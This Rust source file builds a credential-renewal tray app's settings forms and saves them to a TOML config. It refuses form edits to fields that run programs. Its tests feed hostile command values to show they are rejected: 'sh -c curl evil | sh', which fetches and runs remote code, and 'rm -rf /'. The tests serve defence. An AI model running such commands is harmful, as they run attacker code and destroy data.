//! Editing the config file from a form: the fields each kind has, reading one
//! credential into a form, and writing it back.
//!
//! The settings form of the tray app is generated from [`kinds`], so the UI
//! knows nothing about credential kinds by itself. Writes keep the user's
//! comments and layout (`toml_edit`), are validated by the very same
//! [`config::validate`] the engine uses before anything is written, and go
//! through the one atomic-write helper: a form with a mistake never changes
//! the file, and a save never drops another credential.

use std::collections::BTreeMap;
use std::ops::Range;
use std::path::Path;

use serde::{Deserialize, Serialize};
use toml_edit::{Array, Document, Item, Table, Value};

use crate::config::{self, Problem};
use crate::error::{Error, Result};
use crate::fsutil::atomic_write;
use crate::model::Kind;

/// How a field is entered.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(rename_all = "snake_case")]
pub enum FieldType {
    Text,
    Path,
    Url,
    Duration,
    /// One item per line.
    List,
    Bool,
    Number,
    Choice,
}

/// One field of a credential kind.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct FieldSchema {
    pub key: String,
    pub label: String,
    pub help: String,
    pub field_type: FieldType,
    pub required: bool,
    pub choices: Vec<String>,
    pub placeholder: String,
    /// The field names a program Evergreen runs (or how it runs it): the
    /// window shows it but cannot set or change it; the config file can.
    pub runs_program: bool,
}

/// Fields that run programs. A script injected into the webview must not
/// be able to make the engine run one, so the form never writes them: a
/// saved credential keeps what its file says.
const PROGRAM_FIELDS: &[&str] = &["renew_command", "reload_command", "shell"];

/// A credential kind and the fields its form shows.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct KindSchema {
    pub kind: Kind,
    pub label: String,
    pub description: String,
    pub fields: Vec<FieldSchema>,
}

/// A credential as the form edits it: each field as text (lists one item per
/// line, booleans "true"/"false"); an empty or missing value means "not set".
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct CredentialForm {
    pub name: String,
    pub kind: Kind,
    pub values: BTreeMap<String, String>,
}

/// One problem with a form; `field` is the key it belongs to, `None` for the
/// credential (or the file) as a whole.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct FormProblem {
    pub field: Option<String>,
    pub message: String,
}

/// The result of a save: written, or every problem and nothing written.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct SaveResult {
    pub ok: bool,
    pub problems: Vec<FormProblem>,
}

type F = (&'static str, &'static str, FieldType, bool, &'static str, &'static str);

const COMMON: &[F] = &[
    (
        "enabled",
        "Enabled",
        FieldType::Bool,
        false,
        "Off keeps it listed as disabled and never touches it.",
        "true",
    ),
    (
        "renew_at_fraction",
        "Renew when this fraction is left",
        FieldType::Number,
        false,
        "Strictly between 0 and 1. Default 1/3 (1/2 for Vault tokens).",
        "0.33",
    ),
    (
        "renew_before",
        "Or renew this long before expiry",
        FieldType::Duration,
        false,
        "Instead of a fraction, e.g. 72h. Not both.",
        "72h",
    ),
    (
        "jitter",
        "Jitter",
        FieldType::Number,
        false,
        "Random shift of each deadline, a fraction from 0 to 0.5.",
        "0.1",
    ),
];

const VAULT_CONN: &[F] = &[
    (
        "address",
        "Server address",
        FieldType::Url,
        false,
        "https://… of the Vault/OpenBao server; default $BAO_ADDR or $VAULT_ADDR.",
        "https://vault.example.com:8200",
    ),
    (
        "token_file",
        "Token file",
        FieldType::Path,
        false,
        "A file holding only the token, mode 0600; default ~/.vault-token.",
        "~/.vault-token",
    ),
    (
        "token_env",
        "Or token environment variable",
        FieldType::Text,
        false,
        "Instead of a file: a variable of the engine's process.",
        "VAULT_TOKEN",
    ),
    (
        "ca_bundle",
        "CA bundle",
        FieldType::Path,
        false,
        "PEM file of the CAs that signed the server's certificate; only these are trusted.",
        "",
    ),
    (
        "namespace",
        "Namespace",
        FieldType::Text,
        false,
        "Sent as X-Vault-Namespace.",
        "",
    ),
];

const COMMANDS: &[F] = &[
    (
        "reload_command",
        "Reload command",
        FieldType::List,
        false,
        "Run after each renewal; one argument per line.",
        "systemctl\n--user\nreload\nnginx",
    ),
    (
        "command_timeout",
        "Command timeout",
        FieldType::Duration,
        false,
        "A command still running after this is killed. Default 2m.",
        "2m",
    ),
    (
        "shell",
        "Commands are shell strings",
        FieldType::Bool,
        false,
        "Run each command as one line with /bin/sh -c.",
        "false",
    ),
];

/// The fleet kinds' CA bundle field.
const FLEET_CA_BUNDLE: F = (
    "ca_bundle",
    "CA bundle",
    FieldType::Path,
    false,
    "The control plane's CA (PEM).",
    "",
);

fn kind_fields(kind: Kind) -> Vec<F> {
    let mut v: Vec<F> = match kind {
        Kind::X509File => vec![
            (
                "path",
                "Certificate file",
                FieldType::Path,
                true,
                "The certificate Evergreen watches.",
                "~/certs/web.pem",
            ),
            (
                "renew_command",
                "Renew command",
                FieldType::List,
                false,
                "The program that renews it, one argument per line. Without it Evergreen only watches.",
                "step\nca\nrenew\n--force\ncert.pem\nkey.pem",
            ),
        ],
        Kind::VaultToken => vec![(
            "increment",
            "Renewal increment",
            FieldType::Duration,
            false,
            "The TTL asked for at each renewal; default the token's own.",
            "1h",
        )],
        Kind::VaultPki => vec![
            (
                "role",
                "PKI role",
                FieldType::Text,
                true,
                "The role under <mount>/roles/.",
                "workstation",
            ),
            (
                "common_name",
                "Common name",
                FieldType::Text,
                true,
                "The certificate's CN, also sent as a DNS SAN.",
                "ws-42.corp.example.com",
            ),
            (
                "path",
                "Certificate file",
                FieldType::Path,
                true,
                "Where the certificate (leaf, then chain) is written.",
                "~/.local/share/certs/ws.pem",
            ),
            (
                "key_path",
                "Key file",
                FieldType::Path,
                false,
                "Default: the certificate path with .key.",
                "",
            ),
            (
                "mount",
                "Mount",
                FieldType::Text,
                false,
                "Where the PKI engine is mounted; default pki.",
                "pki",
            ),
            (
                "alt_names",
                "More DNS names",
                FieldType::List,
                false,
                "One per line.",
                "",
            ),
            ("ip_sans", "IP addresses", FieldType::List, false, "One per line.", ""),
            (
                "ttl",
                "TTL",
                FieldType::Duration,
                false,
                "Asked of the server; default the role's.",
                "24h",
            ),
            (
                "key_type",
                "Key type",
                FieldType::Choice,
                false,
                "Used when a key is generated.",
                "ec-p256",
            ),
            (
                "mode",
                "Mode",
                FieldType::Choice,
                false,
                "sign: the key is made here (recommended); issue: the server makes it.",
                "sign",
            ),
        ],
        Kind::Nixfleet => vec![
            (
                "url",
                "Control plane",
                FieldType::Url,
                true,
                "https://… (mutual TLS).",
                "https://fleet.example.com",
            ),
            (
                "path",
                "Client certificate",
                FieldType::Path,
                true,
                "Rewritten in place at each renewal.",
                "/var/lib/nixfleet/agent.pem",
            ),
            (
                "ssh_host_key",
                "SSH host key",
                FieldType::Path,
                false,
                "OpenSSH ed25519 private key; default /etc/ssh/ssh_host_ed25519_key.",
                "",
            ),
            (
                "machine_id",
                "Machine id",
                FieldType::Text,
                false,
                "Default: the certificate's common name, else the hostname.",
                "",
            ),
            (
                "enrollment_token_file",
                "Enrolment token file",
                FieldType::Path,
                false,
                "Where an enrolment token waits; default <certificate>.token.",
                "",
            ),
            FLEET_CA_BUNDLE,
        ],
        Kind::Wrenn => vec![
            (
                "url",
                "Control plane",
                FieldType::Url,
                true,
                "https://…",
                "https://wrenn.example.com",
            ),
            (
                "credentials_file",
                "Credentials file",
                FieldType::Path,
                true,
                "The host credentials (JSON, 0600), written at registration.",
                "~/.local/share/wrenn/host.json",
            ),
            (
                "registration_token_file",
                "Registration token file",
                FieldType::Path,
                false,
                "Where a one-time token waits; default <credentials file>.token.",
                "",
            ),
            (
                "heartbeat_interval",
                "Heartbeat interval",
                FieldType::Duration,
                false,
                "Default 30s.",
                "30s",
            ),
            (
                "host_address",
                "Host address",
                FieldType::Text,
                true,
                "This host's ip:port as the control plane reaches it; wrenn refuses a registration without one.",
                "10.0.0.5:9000",
            ),
            FLEET_CA_BUNDLE,
        ],
        Kind::Certctl => vec![
            (
                "url",
                "Control plane",
                FieldType::Url,
                true,
                "https://… only (TLS 1.3).",
                "https://certctl.example.com:8443",
            ),
            (
                "agent_id",
                "Agent id",
                FieldType::Text,
                true,
                "The agent's id at the control plane.",
                "agent-ws42",
            ),
            (
                "api_key_file",
                "API key file",
                FieldType::Path,
                false,
                "A file holding only the agent's API key, mode 0600.",
                "~/.config/evergreen/certctl.key",
            ),
            (
                "api_key_env",
                "Or API key variable",
                FieldType::Text,
                false,
                "Instead of a file: a variable of the engine's process.",
                "CERTCTL_API_KEY",
            ),
            (
                "targets",
                "Targets",
                FieldType::List,
                true,
                "One per line: TARGET_ID=certificate path; the key goes next to it (.key).",
                "t-web=~/certs/web.pem",
            ),
            (
                "key_dir",
                "Key directory",
                FieldType::Path,
                false,
                "Where keys made for CSRs live (0700). Default: Evergreen's data directory.",
                "",
            ),
            (
                "discovery_dirs",
                "Discovery directories",
                FieldType::List,
                false,
                "Scanned for certificates every 6 h; one per line.",
                "/etc/ssl/certs",
            ),
            (
                "heartbeat_interval",
                "Heartbeat interval",
                FieldType::Duration,
                false,
                "Default 60s.",
                "60s",
            ),
            (
                "poll_interval",
                "Poll interval",
                FieldType::Duration,
                false,
                "Default 30s.",
                "30s",
            ),
            (
                "discovery_interval",
                "Discovery interval",
                FieldType::Duration,
                false,
                "Default 6h.",
                "6h",
            ),
            FLEET_CA_BUNDLE,
        ],
        #[allow(unreachable_patterns)]
        _ => vec![],
    };
    match kind {
        Kind::VaultToken => v.extend_from_slice(VAULT_CONN),
        Kind::VaultPki => {
            v.extend_from_slice(VAULT_CONN);
            v.extend_from_slice(COMMANDS);
        }
        Kind::X509File => v.extend_from_slice(COMMANDS),
        _ => {}
    }
    v.extend_from_slice(COMMON);
    v
}

fn kind_label(kind: Kind) -> (&'static str, &'static str) {
    match kind {
        Kind::X509File => (
            "X.509 file",
            "A certificate file, renewed by a command you give (step, certbot, a script) or only watched.",
        ),
        Kind::VaultToken => ("Vault token", "A Vault/OpenBao login token kept alive with renew-self."),
        Kind::VaultPki => (
            "Vault PKI certificate",
            "A certificate from a Vault/OpenBao PKI role; the key stays on this machine.",
        ),
        Kind::Nixfleet => (
            "nixfleet agent",
            "A nixfleet agent's mTLS client certificate, renewed with a CSR signed by the SSH host key.",
        ),
        Kind::Wrenn => ("wrenn host", "A wrenn host registration kept alive with heartbeats."),
        Kind::Certctl => (
            "certctl agent",
            "A certctl agent: heartbeats, work polls, and the certificates it deploys (keys made here).",
        ),
        #[allow(unreachable_patterns)]
        _ => ("credential", ""),
    }
}

fn choices(key: &str) -> Vec<String> {
    let v: &[&str] = match key {
        "key_type" => config::KeyType::NAMES,
        "mode" => &["sign", "issue"],
        _ => &[],
    };
    v.iter().map(|s| s.to_string()).collect()
}

fn all_kinds() -> Vec<Kind> {
    config::KINDS
        .iter()
        .filter_map(|k| serde_json::from_value(serde_json::Value::String(k.to_string())).ok())
        .collect()
}

/// Every credential kind with its form fields, in the order the form shows them.
pub fn kinds() -> Vec<KindSchema> {
    all_kinds()
        .into_iter()
        .map(|kind| {
            let (label, description) = kind_label(kind);
            KindSchema {
                kind,
                label: label.into(),
                description: description.into(),
                fields: kind_fields(kind)
                    .into_iter()
                    .map(|(key, label, field_type, required, help, placeholder)| FieldSchema {
                        key: key.into(),
                        label: label.into(),
                        help: help.into(),
                        field_type,
                        required,
                        choices: choices(key),
                        placeholder: placeholder.into(),
                        runs_program: PROGRAM_FIELDS.contains(&key),
                    })
                    .collect(),
            }
        })
        .collect()
}

fn read_doc(path: &Path) -> Result<Document> {
    let src = match std::fs::read_to_string(path) {
        Ok(s) => s,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
        Err(e) => return Err(Error::io("read config", path, e)),
    };
    let doc: Document = src.parse().map_err(|e: toml_edit::TomlError| {
        Error::Config(format!(
            "{} is not valid TOML ({}); fix it by hand first (`evergreen config check` shows where)",
            path.display(),
            e.message()
        ))
    })?;
    Ok(doc)
}

fn credentials(doc: &Document) -> Option<&toml_edit::ArrayOfTables> {
    doc.get("credential").and_then(Item::as_array_of_tables)
}

fn name_of(t: &Table) -> Option<&str> {
    t.get("name").and_then(Item::as_str)
}

/// The credential `name` of the config file at `path`, as a form.
pub fn read_form(path: &Path, name: &str) -> Result<CredentialForm> {
    let doc = read_doc(path)?;
    let t = credentials(&doc)
        .and_then(|a| a.iter().find(|t| name_of(t) == Some(name)))
        .ok_or_else(|| Error::UnknownCredential { name: name.into() })?;
    let kind_str = t.get("kind").and_then(Item::as_str).unwrap_or_default();
    let kind: Kind = serde_json::from_value(serde_json::Value::String(kind_str.into())).map_err(|_| {
        Error::Config(format!(
            "credential {name:?} in {} has kind {kind_str:?}, which the form cannot edit; edit the file by hand",
            path.display()
        ))
    })?;
    let mut values = BTreeMap::new();
    for (key, item) in t.iter() {
        if key == "name" || key == "kind" {
            continue;
        }
        if let Some(text) = item_text(item) {
            values.insert(key.to_string(), text);
        }
    }
    Ok(CredentialForm {
        name: name.into(),
        kind,
        values,
    })
}

/// A config value as the form shows it.
fn item_text(item: &Item) -> Option<String> {
    Some(match item.as_value()? {
        Value::String(s) => s.value().clone(),
        Value::Boolean(b) => b.value().to_string(),
        Value::Integer(i) => i.value().to_string(),
        Value::Float(f) => f.value().to_string(),
        Value::Array(a) => a.iter().filter_map(|v| v.as_str()).collect::<Vec<_>>().join("\n"),
        _ => return None,
    })
}

/// The TOML value a form field's text stands for; `None` removes the key.
fn to_value(field: &F, text: &str, shell: bool) -> std::result::Result<Option<Value>, String> {
    let text = text.trim();
    if text.is_empty() {
        return Ok(None);
    }
    Ok(Some(match field.2 {
        FieldType::Bool => match text {
            "true" => Value::from(true),
            "false" => Value::from(false),
            other => return Err(format!("{other:?} is not true or false")),
        },
        FieldType::Number => match text.parse::<i64>() {
            Ok(i) => Value::from(i),
            Err(_) => match text.parse::<f64>() {
                Ok(f) if f.is_finite() => Value::from(f),
                _ => return Err(format!("{text:?} is not a number")),
            },
        },
        FieldType::List if shell && field.0.ends_with("_command") => Value::from(
            text.lines()
                .map(str::trim)
                .filter(|l| !l.is_empty())
                .collect::<Vec<_>>()
                .join(" "),
        ),
        FieldType::List => {
            let mut a = Array::new();
            for l in text.lines().map(str::trim).filter(|l| !l.is_empty()) {
                a.push(l);
            }
            Value::Array(a)
        }
        _ => Value::from(text),
    }))
}

/// A list field's text without the blank lines and spaces a form adds.
fn normalized(text: &str) -> Vec<&str> {
    text.lines().map(str::trim).filter(|l| !l.is_empty()).collect()
}

/// Validates the form against the whole config and, only if everything is
/// right, writes the file (atomically, comments kept). `original` is the
/// name being edited; `None` adds a credential.
pub fn save(path: &Path, original: Option<&str>, form: &CredentialForm) -> Result<SaveResult> {
    let mut doc = read_doc(path)?;
    let fields = kind_fields(form.kind);
    let mut problems = Vec::new();
    for key in form.values.keys() {
        if !form.values[key].trim().is_empty() && !fields.iter().any(|f| f.0 == key) {
            problems.push(FormProblem {
                field: Some(key.clone()),
                message: format!("{key} is not a field of a {} credential", form.kind),
            });
        }
    }
    let existing = credentials(&doc)
        .map(|a| a.iter().position(|t| name_of(t) == original))
        .unwrap_or(None);
    let clash = credentials(&doc)
        .map(|a| a.iter().any(|t| name_of(t) == Some(form.name.as_str())))
        .unwrap_or(false);
    if original != Some(form.name.as_str()) && clash {
        problems.push(FormProblem {
            field: Some("name".into()),
            message: format!("there is already a credential named {:?}; pick another name", form.name),
        });
    }
    if let (Some(o), None) = (original, existing) {
        problems.push(FormProblem {
            field: None,
            message: format!(
                "{o:?} is no longer in {}; it was changed elsewhere, reopen the form",
                path.display()
            ),
        });
    }
    let shell = form.values.get("shell").is_some_and(|v| v.trim() == "true");
    let mut table = Table::new();
    table.insert("name", toml_edit::value(form.name.as_str()));
    table.insert("kind", toml_edit::value(form.kind.as_str()));
    let before = existing.and_then(|i| credentials(&doc).and_then(|a| a.get(i)));
    for f in &fields {
        if PROGRAM_FIELDS.contains(&f.0) {
            // Kept exactly as the file has it; a change is refused by name.
            let old = before.and_then(|t| t.get(f.0));
            let was = old.and_then(item_text).unwrap_or_default();
            let asked = form.values.get(f.0).map(String::as_str).unwrap_or("");
            let same = match f.2 {
                FieldType::Bool => (asked.trim() == "true") == (was.trim() == "true"),
                _ => normalized(asked) == normalized(&was),
            };
            if !same {
                problems.push(FormProblem {
                    field: Some(f.0.into()),
                    message: format!(
                        "{} runs a program, so the window cannot set or change it: edit `{}` in {} (Evergreen applies the file as soon as it is saved)",
                        f.1,
                        f.0,
                        path.display()
                    ),
                });
            } else if let Some(item) = old {
                table.insert(f.0, item.clone());
            }
            continue;
        }
        match to_value(f, form.values.get(f.0).map(String::as_str).unwrap_or(""), shell) {
            Ok(Some(v)) => {
                table.insert(f.0, Item::Value(v));
            }
            Ok(None) => {}
            Err(message) => problems.push(FormProblem {
                field: Some(f.0.into()),
                message: format!("{}: {message}", f.1),
            }),
        }
    }
    if !problems.is_empty() {
        return Ok(SaveResult { ok: false, problems });
    }
    if doc.get("credential").is_none() {
        doc.insert("credential", Item::ArrayOfTables(Default::default()));
    }
    let Some(arr) = doc.get_mut("credential").and_then(Item::as_array_of_tables_mut) else {
        return Ok(SaveResult {
            ok: false,
            problems: vec![FormProblem {
                field: None,
                message: format!(
                    "`credential` in {} is not a list of [[credential]] tables; fix it by hand",
                    path.display()
                ),
            }],
        });
    };
    match existing.and_then(|i| arr.get_mut(i)) {
        Some(t) => {
            // Keep the table's comments and its position in the file.
            let decor = t.decor().clone();
            *t = table;
            *t.decor_mut() = decor;
        }
        None => arr.push(table),
    }
    let text = doc.to_string();
    if let Err(problems) = config::validate(&text, path) {
        return Ok(SaveResult {
            ok: false,
            problems: place(&text, &form.name, problems),
        });
    }
    atomic_write(path, text.as_bytes(), 0o600)?;
    Ok(SaveResult {
        ok: true,
        problems: Vec::new(),
    })
}

/// Removes the credential `name` from the config file.
pub fn delete(path: &Path, name: &str) -> Result<()> {
    let mut doc = read_doc(path)?;
    let arr = doc
        .get_mut("credential")
        .and_then(Item::as_array_of_tables_mut)
        .ok_or_else(|| Error::UnknownCredential { name: name.into() })?;
    let i = arr
        .iter()
        .position(|t| name_of(t) == Some(name))
        .ok_or_else(|| Error::UnknownCredential { name: name.into() })?;
    arr.remove(i);
    let text = doc.to_string();
    config::validate(&text, path).map_err(|p| {
        Error::Config(format!(
            "removing {name:?} would leave {} invalid ({}); fix the file by hand",
            path.display(),
            p.first().map(|p| p.message.as_str()).unwrap_or("")
        ))
    })?;
    atomic_write(path, text.as_bytes(), 0o600)
}

/// Attaches each problem to the field of credential `name` whose text it points into.
fn place(text: &str, name: &str, problems: Vec<Problem>) -> Vec<FormProblem> {
    let spans: Vec<(String, Range<usize>)> = field_spans(text, name);
    problems
        .into_iter()
        .map(|p| {
            let field = p.span.as_ref().and_then(|s| {
                spans
                    .iter()
                    .find(|(_, r)| r.start <= s.start && s.start < r.end.max(r.start + 1))
                    .map(|(k, _)| k.clone())
            });
            FormProblem {
                field,
                message: p.message,
            }
        })
        .collect()
}

/// Byte ranges of each `key = value` line of credential `name`.
fn field_spans(text: &str, name: &str) -> Vec<(String, Range<usize>)> {
    let mut out = Vec::new();
    let mut offset = 0;
    let mut inside = false;
    let mut current: Vec<(String, Range<usize>)> = Vec::new();
    for line in text.split_inclusive('\n') {
        let trimmed = line.trim();
        if trimmed.starts_with('[') {
            if inside {
                break;
            }
            current.clear();
        } else if let Some((k, v)) = trimmed.split_once('=') {
            let key = k.trim().to_string();
            if key == "name" && v.trim().trim_matches('"') == name {
                inside = true;
            }
            current.push((key, offset..offset + line.len()));
        }
        offset += line.len();
        if inside {
            out = current.clone();
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_kind_has_exactly_the_fields_the_validator_accepts() {
        for kind in config::KINDS {
            let k: Kind = serde_json::from_value(serde_json::Value::String(kind.to_string())).unwrap();
            let mut form: Vec<&str> = kind_fields(k)
                .iter()
                .map(|f| f.0)
                .filter(|f| !COMMON.iter().any(|c| c.0 == *f))
                .collect();
            let mut accepted = config::fields_of(kind);
            form.sort();
            accepted.sort();
            accepted.dedup();
            form.dedup();
            assert_eq!(form, accepted, "form fields of {kind}");
            assert_ne!(kind_label(k).1, "", "{kind} needs a description");
        }
    }

    fn form(name: &str, kind: Kind, values: &[(&str, &str)]) -> CredentialForm {
        CredentialForm {
            name: name.into(),
            kind,
            values: values.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
        }
    }

    #[test]
    fn adds_edits_and_deletes_keeping_comments_and_other_credentials() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("config.toml");
        std::fs::write(
            &path,
            "# my credentials\n[[credential]]\n# the web server\nname = \"web\"\nkind = \"x509_file\"\npath = \"/certs/web.pem\"\n",
        )
        .unwrap();
        let r = save(&path, None, &form("api", Kind::X509File, &[("path", "/certs/api.pem")])).unwrap();
        assert!(r.ok, "{r:?}");
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.starts_with("# my credentials\n"), "{text}");
        assert!(text.contains("# the web server"), "{text}");
        let cfg = config::parse(&text, &path).unwrap();
        assert_eq!(cfg.credentials.len(), 2);
        // The program is the file's to name; the form keeps it as it is.
        std::fs::write(
            &path,
            text + "renew_command = [\"step\", \"ca\", \"renew\", \"/certs/api.pem\"]\n",
        )
        .unwrap();

        let mut f = read_form(&path, "api").unwrap();
        assert_eq!(f.values["renew_command"], "step\nca\nrenew\n/certs/api.pem");
        f.values.insert("renew_at_fraction".into(), "0.5".into());
        assert!(save(&path, Some("api"), &f).unwrap().ok);
        let f2 = read_form(&path, "api").unwrap();
        assert_eq!(f2.values["renew_at_fraction"], "0.5");

        delete(&path, "api").unwrap();
        let cfg = config::load(&path).unwrap();
        assert_eq!(
            cfg.credentials.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(),
            ["web"]
        );
        assert!(matches!(read_form(&path, "api"), Err(Error::UnknownCredential { .. })));
    }

    #[test]
    fn the_form_can_neither_set_nor_change_a_field_that_runs_a_program() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("config.toml");
        let original = "[[credential]]\nname = \"web\"\nkind = \"x509_file\"\npath = \"/certs/web.pem\"\nrenew_command = [\"step\", \"ca\", \"renew\"]\n";
        std::fs::write(&path, original).unwrap();
        let refused = |r: SaveResult, field: &str| {
            assert!(!r.ok);
            let p = r.problems.iter().find(|p| p.field.as_deref() == Some(field)).unwrap();
            assert!(
                p.message
                    .contains("runs a program, so the window cannot set or change it"),
                "{p:?}"
            );
            assert!(
                p.message.contains(&format!("edit `{field}` in {}", path.display())),
                "{p:?}"
            );
            assert_eq!(std::fs::read_to_string(&path).unwrap(), original);
        };
        let new = |values: &[(&str, &str)]| save(&path, None, &form("api", Kind::X509File, values)).unwrap();
        refused(
            new(&[("path", "/a.pem"), ("renew_command", "sh\n-c\ncurl evil | sh")]),
            "renew_command",
        );
        refused(
            new(&[("path", "/a.pem"), ("reload_command", "reboot")]),
            "reload_command",
        );
        refused(new(&[("path", "/a.pem"), ("shell", "true")]), "shell");
        let mut f = read_form(&path, "web").unwrap();
        f.values.insert("renew_command".into(), "rm\n-rf\n/".into());
        refused(save(&path, Some("web"), &f).unwrap(), "renew_command");
        // Unchanged (even with the form's own spacing) it is kept byte for byte.
        let mut f = read_form(&path, "web").unwrap();
        f.values.insert("renew_command".into(), "step\n  ca \nrenew\n\n".into());
        f.values.insert("shell".into(), "false".into());
        f.values.insert("jitter".into(), "0.1".into());
        assert!(save(&path, Some("web"), &f).unwrap().ok);
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.contains("renew_command = [\"step\", \"ca\", \"renew\"]"), "{text}");
        assert!(!text.contains("shell"), "{text}");
        let schema = kinds().into_iter().find(|k| k.kind == Kind::X509File).unwrap();
        let flagged: Vec<_> = schema
            .fields
            .iter()
            .filter(|f| f.runs_program)
            .map(|f| f.key.as_str())
            .collect();
        assert_eq!(flagged, ["renew_command", "reload_command", "shell"]);
    }

    #[test]
    fn a_bad_form_names_the_field_and_writes_nothing() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("config.toml");
        let original = "[[credential]]\nname = \"web\"\nkind = \"x509_file\"\npath = \"/certs/web.pem\"\n";
        std::fs::write(&path, original).unwrap();
        // Caught by the engine's own validator, placed on the field.
        let r = save(
            &path,
            None,
            &form(
                "api",
                Kind::X509File,
                &[("path", "/c.pem"), ("renew_at_fraction", "1.5")],
            ),
        )
        .unwrap();
        assert!(!r.ok);
        assert_eq!(r.problems[0].field.as_deref(), Some("renew_at_fraction"), "{r:?}");
        assert!(r.problems[0].message.contains("strictly between 0 and 1"), "{r:?}");
        // A missing required field.
        let r = save(&path, None, &form("api", Kind::X509File, &[])).unwrap();
        assert!(!r.ok && r.problems.iter().any(|p| p.message.contains("path")), "{r:?}");
        // A clash of names, a number that is not one, a field of another kind.
        let r = save(
            &path,
            None,
            &form(
                "web",
                Kind::X509File,
                &[("path", "/c.pem"), ("jitter", "lots"), ("role", "x")],
            ),
        )
        .unwrap();
        let fields: Vec<_> = r.problems.iter().map(|p| p.field.clone().unwrap_or_default()).collect();
        assert!(
            fields.contains(&"name".to_string())
                && fields.contains(&"jitter".to_string())
                && fields.contains(&"role".to_string()),
            "{r:?}"
        );
        assert_eq!(std::fs::read_to_string(&path).unwrap(), original, "nothing was written");
    }
}
